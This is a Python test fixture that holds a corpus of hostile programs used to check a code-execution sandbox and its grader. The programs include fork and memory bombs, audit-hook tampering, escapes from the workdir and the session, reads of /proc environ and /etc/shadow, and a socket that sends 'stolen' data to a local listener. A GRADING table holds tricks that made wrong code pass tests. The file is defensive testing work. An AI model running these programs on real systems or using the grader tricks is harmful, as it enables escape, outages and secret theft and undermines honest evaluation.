"""The hostile programs (shared by the root and the unprivileged-caller corpus tests)."""

# name -> (source, allowed statuses)
CORPUS: dict[str, tuple[str, set[str]]] = {
    "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
                  {"timeout", "error", "killed", "ok"}),
    "subprocess_bomb": ("import subprocess, sys\nwhile True:\n    try:\n"
                        "        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(100)'])\n"
                        "    except OSError:\n        pass\n", {"timeout", "error", "killed"}),
    # fallback mode's audit-hook fence: find the hook (gc, a traceback's frame, a trace function),
    # empty its sets and rebind its closure, then write outside, open a socket and fork
    "disable_the_fence": ("import gc, os, sys, socket\n"
                          "def attack(h):\n    try:\n        c = dict(zip(h.__code__.co_freevars, h.__closure__))\n"
                          "        c['deny'].cell_contents.clear(); c['path_events'].cell_contents.clear()\n"
                          "        c['inside'].cell_contents = lambda p: True\n    except Exception as e:\n        print('no', e)\n"
                          "try:\n    for o in gc.get_objects():\n"
                          "        if type(o).__name__ == 'function' and o.__qualname__.endswith('.<locals>.hook'):\n"
                          "            attack(o)\nexcept Exception as e:\n    print('gc', e)\n"
                          "try:\n    os.fork()\nexcept Exception as e:\n    try:\n        f = e.__traceback__.tb_next.tb_frame\n"
                          "        f.f_locals['deny'].clear()\n    except Exception as e2:\n        print('tb', e2)\n"
                          "try:\n    sys.settrace(lambda fr, ev, a: fr.f_locals.get('deny', set()).clear())\n"
                          "except Exception as e:\n    print('trace', e)\n"
                          "try:\n    open(os.path.join(sys.argv[1], 'pwned.txt'), 'w').write('pwned')\nexcept OSError as e:\n    print(e)\n"
                          "send = f\"import socket; socket.create_connection(('127.0.0.1', {sys.argv[4]}), timeout=2).sendall(b'stolen')\"\n"
                          "try:\n    pid = os.fork()\n    if pid == 0:\n        os.execv(sys.executable, [sys.executable, '-c', send])\n"
                          "    os.waitpid(pid, 0)\nexcept Exception as e:\n    print('fork', e)\n"
                          "exec(send)\n", {"error"}),
    "infinite_loop": ("while True:\n    pass\n", {"timeout"}),
    "sleep_forever": ("import time\ntime.sleep(1000)\n", {"timeout"}),
    "busy_threads": ("import threading\ndef spin():\n    while True: pass\n"
                     "for _ in range(8): threading.Thread(target=spin).start()\n", {"timeout", "error"}),
    "memory_bomb": ("x = []\nwhile True:\n    x.append(bytearray(50 * 1024 * 1024))\n", {"memory"}),
    "memory_bomb_children": ("import os\nfor _ in range(8):\n    if os.fork() == 0:\n"
                             "        x = bytearray(10**10)\n", {"memory", "error", "ok", "killed"}),
    "huge_stdout": ("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n", {"output_limit"}),
    "huge_stderr": ("import sys\nwhile True:\n    sys.stderr.write('e' * 65536)\n", {"output_limit"}),
    "write_outside": ("import sys, os\nd = sys.argv[1]\n"
                      "for p in [os.path.join(d, 'pwned.txt'), os.path.join(d, 'canary.txt'), '/tmp/pwned-rs',\n"
                      "          os.path.expanduser('~/pwned'), '/var/tmp/pwned-rs', '/root/pwned-rs']:\n"
                      "    try:\n        open(p, 'w').write('pwned')\n    except OSError as e:\n        print('blocked', p)\n",
                      {"ok"}),
    "read_secret_env": ("import os\nprint(dict(os.environ))\nprint(os.environ.get('REWARDSMITH_HOSTILE_SECRET'))\n",
                        {"ok"}),
    "read_proc_environ": ("import os, sys\nfor pid in [sys.argv[2], sys.argv[3], str(os.getppid()), '1'] + os.listdir('/proc'):\n"
                          "    try:\n        print(open(f'/proc/{pid}/environ', 'rb').read())\n"
                          "    except (OSError, ValueError):\n        pass\n", {"ok"}),
    "socket_to_listener": ("import socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[4])), timeout=2)\n"
                           "s.sendall(b'stolen')\n", {"error"}),
    "kill_parent": ("import os, sys, signal\nfor pid in [os.getppid(), int(sys.argv[3]), int(sys.argv[2]), 1]:\n"
                    "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print('denied', e)\n",
                    {"ok", "killed", "error"}),
    "kill_everything": ("import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
                        "try:\n    os.killpg(0, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n",
                        {"ok", "killed", "error"}),
    "setsid_escape": ("import os, time, sys\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1.5)\n"
                      "    open(os.path.join(sys.argv[1], 'late.txt'), 'w').write('escaped')\n    os._exit(0)\n",
                      {"ok", "error"}),
    "daemonize": ("import os, time, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                  "        os.close(0); os.close(1); os.close(2)\n        time.sleep(1.5)\n"
                  "        open(os.path.join(sys.argv[1], 'daemon.txt'), 'w').write('escaped')\n"
                  "    os._exit(0)\nprint('parent done')\n", {"ok", "error"}),
    "recursion_bomb": ("import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)\n",
                       {"killed", "error", "memory", "timeout"}),
    "ctypes_segfault": ("import ctypes\nctypes.string_at(0)\n", {"killed", "error"}),
    "symlink_tricks": ("import os, sys\nos.symlink(sys.argv[1], 'out')\nos.symlink('/etc/shadow', 'shadow')\n"
                       "os.symlink(os.path.join(sys.argv[1], 'canary.txt'), 'canary')\n"
                       "for p in ['out/pwned.txt', 'canary']:\n    try:\n        open(p, 'w').write('pwned')\n"
                       "    except OSError:\n        print('blocked', p)\ntry:\n    print(open('shadow').read())\n"
                       "except OSError:\n    print('no shadow')\n", {"ok", "error"}),
    "file_size_bomb": ("with open('big.bin', 'wb') as fh:\n    while True:\n        fh.write(b'0' * (1 << 20))\n",
                       {"error", "killed"}),
    "tmpfs_fill": ("import os\ni = 0\nwhile True:\n    with open(f'/tmp/f{i}', 'wb') as fh:\n"
                   "        fh.write(b'0' * (1 << 20))\n    i += 1\n", {"error", "killed"}),
    "fd_exhaustion": ("fs = []\nwhile True:\n    fs.append(open('/dev/null'))\n", {"error"}),
    "ignore_signals": ("import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
                       "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n", {"timeout"}),
    "forge_status_fd": ("import os\nfor fd in range(3, 256):\n    try:\n"
                        "        os.write(fd, b'{\"exit\": 0, \"cpu_s\": 0}')\n    except OSError:\n        pass\n"
                        "raise SystemExit(3)\n", {"error"}),
    "read_parent_memory": ("import os\nfor p in ['/proc/1/mem', f'/proc/{os.getppid()}/mem', '/proc/1/fd/0']:\n"
                           "    try:\n        open(p, 'rb').read(16); print('read', p)\n    except OSError:\n"
                           "        print('denied', p)\n", {"ok", "error"}),
    "chmod_workdir": ("import os\nos.makedirs('a/b', exist_ok=True)\nopen('a/b/f', 'w').write('x')\n"
                      "os.chmod('a/b', 0)\nos.chmod('a', 0)\nos.chmod('.', 0o500)\n", {"ok", "error"}),
    "exhaust_threads": ("import threading, time\nn = 0\ntry:\n    while True:\n"
                        "        threading.Thread(target=time.sleep, args=(100,), daemon=True).start(); n += 1\n"
                        "except Exception as e:\n    print('stopped at', n)\n", {"ok", "error", "timeout"}),
    "mount_and_unshare": ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "print(libc.unshare(0x10000000), libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))\n"
                          "print(libc.setuid(0))\n", {"ok", "error"}),
    # ---- issue 12's red-team findings (2, 3, 5, 6) and the "fragile but held" ones
    # 2: 128 files of 16 MiB (2 GiB) went to the host's disk; now a 64 MiB tmpfs says ENOSPC
    "disk_fill": ("import os\nn = 0\ntry:\n    for i in range(128):\n        with open(f'f{i}', 'wb') as fh:\n"
                  "            for _ in range(16):\n                fh.write(b'0' * (1 << 20)); n += 1\n"
                  "except OSError as e:\n    print('stopped', e.errno)\nprint('MiB', n)\n", {"ok", "timeout", "error"}),
    # 3: 99,000 mkdirs made run() return after 11.5 s (clean-up in the caller); now an inode cap
    "mkdir_storm": ("import os\ni = 0\ntry:\n    while True:\n        os.mkdir(f'd{i}'); i += 1\n"
                    "except OSError as e:\n    print('dirs', i, e.errno)\n", {"ok", "timeout", "error"}),
    # 5: keys added to the user keyring outlived the run
    "keyring_add": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                    "nr = {'x86_64': (248, 250), 'aarch64': (217, 219)}[os.uname().machine]\n"
                    "k = libc.syscall(nr[0], b'user', b'rs-leak', b'secret', 6, -4)\n"
                    "print('add_key', k, ctypes.get_errno())\n"
                    "print('keyctl', libc.syscall(nr[1], 0, -4, 0), ctypes.get_errno())\n", {"ok", "error"}),
    # 6: AF_VSOCK is not cut off by a network namespace (only the local CID is ever tried)
    "vsock_local": ("import socket\ns = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
                    "try:\n    s.bind((1, 52000)); s.listen(1); print('listening')\nexcept OSError as e:\n"
                    "    print('bind', e)\nc = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\nc.settimeout(1)\n"
                    "c.connect((1, 52000))\nprint('connected')\n", {"error"}),
    "netlink_and_packet": ("import socket\nfor fam, typ in ((socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),\n"
                           "                 (socket.AF_INET6, socket.SOCK_DGRAM)):\n    try:\n"
                           "        socket.socket(fam, typ); print('opened', fam)\n    except OSError as e:\n"
                           "        print('denied', fam, e.errno)\n", {"ok", "error"}),
    "io_uring": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nbuf = ctypes.create_string_buffer(256)\n"
                 "print('io_uring_setup', libc.syscall(425, 8, buf), ctypes.get_errno())\n", {"ok", "error"}),
    "nested_userns": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                      "nr = {'x86_64': 272, 'aarch64': 97}[os.uname().machine]\n"
                      "r = libc.syscall(nr, 0x10000000)\nprint('unshare', r, ctypes.get_errno())\n"
                      "if r == 0:\n    print(libc.mount(b'none', b'/', None, 32 | 4096, None))\n", {"ok", "error"}),
    # one run with memory_mb=256 used 4.4 GiB across 10 forks: now a cgroup per run
    "memory_across_forks": ("import os\nkids = []\nfor _ in range(10):\n    pid = os.fork()\n    if pid == 0:\n"
                            "        x = bytearray(200 * 2**20)\n        for i in range(0, len(x), 4096): x[i] = 1\n"
                            "        import time; time.sleep(0.5); os._exit(0)\n    kids.append(pid)\n"
                            "ok = sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in kids)\n"
                            "print('survivors', ok)\n", {"ok", "error", "memory", "killed", "timeout"}),
}

# Grading attacks (run through sandbox.testing.run_tests, as root and as an unprivileged caller):
# name -> (program, tests, entry_point). None of them may pass.
GRADING: dict[str, tuple[str, str, str | None]] = {
    # 1: asserts in a loop / a helper were dropped: a constant function scored +1
    "assert_in_loop": ("def f(x):\n    return 2\n", "assert f(1) == 2\nfor i in range(5):\n    assert f(i) == i + 1\n", None),
    "assert_in_helper": ("def f(x):\n    return 2\n", "def _t():\n    assert f(3) == 4\n_t()\n", None),
    "assert_in_main_block": ("def f(x):\n    return 2\n", "if __name__ == '__main__':\n    assert f(3) == 4\n", None),
    "pytest_style": ("def f(x):\n    return 2\n", "def test_f():\n    assert f(3) == 4\n", None),
    "unittest_style": ("def f(x):\n    return 2\n", "import unittest\nclass T(unittest.TestCase):\n"
                       "    def test_f(self):\n        self.assertEqual(f(3), 4)\nunittest.main()\n", None),
    # 7: a lone surrogate crashed the harness (unscored); as a value it must simply be wrong
    "surrogate_return": ("def f(x):\n    return chr(0xDC80)\n", "assert f(1) == 'x'\n", None),
    "surrogate_in_source": ("def f(x):\n    return '\udc80'\n", "assert f(1) == 'x'\n", None),
    # red-team round 3: the tests' arguments crossed as copies, so sorting the input in place
    # passed a test that the input must not change
    "mutate_the_input": ("def f(a):\n    a.sort()\n    return a\n",
                         "a = [3, 1, 2]\nassert f(a) == [1, 2, 3]\nassert a == [3, 1, 2]\n", None),
}
